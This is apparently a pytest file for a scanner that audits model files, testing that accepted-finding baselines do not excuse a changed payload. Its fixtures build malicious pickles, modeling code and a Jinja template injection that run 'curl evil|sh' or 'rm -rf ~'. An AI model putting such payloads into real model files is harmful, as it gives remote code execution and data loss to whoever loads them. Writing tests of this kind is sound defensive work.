"""What a baseline accepts is what was found, byte for byte: another payload in the same place is new."""

from __future__ import annotations

import os
import pickle
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from assay.facts.dossier import Dossier, Verdict
from assay.facts.finding import Effect, Kind
from tests.builders import calls, hub_model, safetensors
from tests.conftest import of

Audit = Callable[..., Dossier]
AUTO = b'{"auto_map": {"AutoModel": "modeling_x.X"}, "model_type": "x"}'


class Calling:
    def __init__(self, function: Any, *arguments: Any, state: Any = None) -> None:
        self.parts = (function, arguments) if state is None else (function, arguments, state)

    def __reduce__(self) -> Any:
        return self.parts


def pickled(*found: Calling) -> bytes:
    return pickle.dumps(list(found), 2)


ECHO = Calling(os.system, "echo hello")
LONG = "echo " + "a" * 500
PAIRS: dict[str, tuple[dict[str, bytes], dict[str, bytes]]] = {
    "another argument": ({"x.pkl": pickled(ECHO)}, {"x.pkl": pickled(Calling(os.system, "curl evil.example | sh"))}),
    "an argument that differs where no report shows it": (
        {"x.pkl": pickled(Calling(os.system, f"{LONG}; id"))},
        {"x.pkl": pickled(Calling(os.system, f"{LONG}; rm -rf ~"))},
    ),
    "one more call of the same name": (
        {"x.pkl": pickled(ECHO)},
        {"x.pkl": pickled(ECHO, Calling(os.system, "rm -rf ~"))},
    ),
    "the fifth call of a name": (
        {"x.pkl": pickled(*[Calling(os.system, f"echo {n}") for n in range(5)])},
        {"x.pkl": pickled(*[Calling(os.system, f"echo {n}") for n in (0, 1, 2, 3, 9)])},
    ),
    "another expression": ({"x.pkl": pickled(Calling(eval, "1+1"))}, {"x.pkl": pickled(Calling(eval, "exit()"))}),
    "another number far down": (
        {"x.pkl": pickled(Calling(exec, bytes(range(64))))},
        {"x.pkl": pickled(Calling(exec, bytes(reversed(range(64)))))},
    ),
    "another state": (
        {"x.pkl": pickled(Calling(os.system, "x", state={"a": 1}))},
        {"x.pkl": pickled(Calling(os.system, "x", state={"a": 2}))},
    ),
    "another line of code": (
        {"config.json": AUTO, "modeling_x.py": b"import os\nos.system('make')\nclass X: pass\n"},
        {"config.json": AUTO, "modeling_x.py": b"import os\nos.system('curl evil|sh')\nclass X: pass\n"},
    ),
    "the same call, and what it is given": (
        {"config.json": AUTO, "modeling_x.py": b"import os\nC = 'make'\nos.system(C)\nclass X: pass\n"},
        {"config.json": AUTO, "modeling_x.py": b"import os\nC = 'curl evil|sh'\nos.system(C)\nclass X: pass\n"},
    ),
    "the same call, and what another file gives it": (
        {
            "config.json": AUTO,
            "modeling_x.py": b"import os\nfrom .c import C\nos.system(C)\nclass X: pass\n",
            "c.py": b"C = 'make'\n",
        },
        {
            "config.json": AUTO,
            "modeling_x.py": b"import os\nfrom .c import C\nos.system(C)\nclass X: pass\n",
            "c.py": b"C = 'curl evil|sh'\n",
        },
    ),
    "another template": (
        {"chat_template.jinja": b"{{ cycler.__init__.__globals__.os.getcwd() }}"},
        {"chat_template.jinja": b"{{ cycler.__init__.__globals__.os.popen('curl evil|sh').read() }}"},
    ),
}


@pytest.mark.parametrize("name", PAIRS)
def test_a_baseline_does_not_accept_another_payload_in_the_same_place(tmp_path: Path, audit: Audit, name: str) -> None:
    before, after = (hub_model(tmp_path / part, **files) for part, files in zip("ab", PAIRS[name], strict=True))
    first = audit(before)
    known = frozenset(finding.fingerprint for finding in first.findings)
    assert first.decision.verdict is Verdict.FAILED
    assert audit(before, known=known).decision.verdict is not Verdict.FAILED
    second = audit(after, known=known)
    assert second.decision.verdict is Verdict.FAILED
    assert {row.effect for row in second.findings if row.kind is Kind.FAIL} == {Effect.BLOCKS}


def test_a_decision_holds_for_the_bytes_that_were_decided_on(tmp_path: Path, audit: Audit) -> None:
    elf = b"\x7fELF\x02\x01\x01" + bytes(57)
    one = hub_model(tmp_path / "a", **{"libfast.so": elf})
    two = hub_model(tmp_path / "b", **{"libfast.so": elf + b"\xcc"})
    known = frozenset(finding.fingerprint for finding in audit(one).findings)
    assert [row.effect for row in of(audit(one, known=known), "code.native", Kind.REVIEW)] == [Effect.KNOWN]
    assert [row.effect for row in of(audit(two, known=known), "code.native", Kind.REVIEW)] == [Effect.DECIDES]


def test_a_payload_that_only_moved_in_its_pickle_is_the_same(tmp_path: Path, audit: Audit) -> None:
    payload = calls("os", "system", "id")
    one = hub_model(tmp_path / "a", **{"x.pkl": payload})
    two = hub_model(tmp_path / "b", **{"x.pkl": b"\x80\x02(N0N1" + payload[2:]})
    first, second = (of(audit(model), "pickle.reaches-outside", Kind.FAIL) for model in (one, two))
    assert [row.fingerprint for row in first] == [row.fingerprint for row in second]
    assert first[0].evidence[0].start != second[0].evidence[0].start


def test_a_pickle_that_is_too_much_to_take_in_is_bound_to_its_file(tmp_path: Path, audit: Audit) -> None:
    payload = [Calling(os.system, "x" * 1_100_000 + end) for end in "ab"]
    models = [hub_model(tmp_path / str(n), **{"x.pkl": pickled(row)}) for n, row in enumerate(payload)]
    prints = [of(audit(model), "pickle.reaches-outside", Kind.FAIL)[0].fingerprint for model in models]
    assert prints[0] != prints[1]


def test_what_weights_show_is_known_by_its_name(tmp_path: Path, audit: Audit) -> None:
    """A model trained further has other weights; that a tensor of it is not finite stays known."""
    prints = []
    for number in (1, 2):
        raw = bytes([number, 0, 0, 0x3F]) * 15 + b"\x00\x00\xc0\x7f"
        stored = safetensors({"w": ("F32", (4, 4))}, data=raw)
        model = hub_model(tmp_path / str(number), **{"model.safetensors": stored})
        prints.append({row.fingerprint for row in of(audit(model), "weights.not-finite", Kind.FAIL)})
    assert prints[0] and prints[0] == prints[1]


def test_more_answers_than_are_listed_are_accepted_as_they_are(tmp_path: Path, audit: Audit) -> None:
    def importing(last: str) -> bytes:
        return b"\x80\x02" + b"".join(f"cos\nf{n}\n0".encode() for n in range(502)) + f"cos\n{last}\n.".encode()

    one, two = (hub_model(tmp_path / last, **{"x.pkl": importing(last)}) for last in ("ab", "cd"))
    known = frozenset(finding.fingerprint for finding in audit(one).findings)
    counted = [row for row in of(audit(two, known=known), "pickle.reaches-outside", Kind.FAIL) if not row.evidence]
    assert [row.effect for row in counted] == [Effect.BLOCKS]
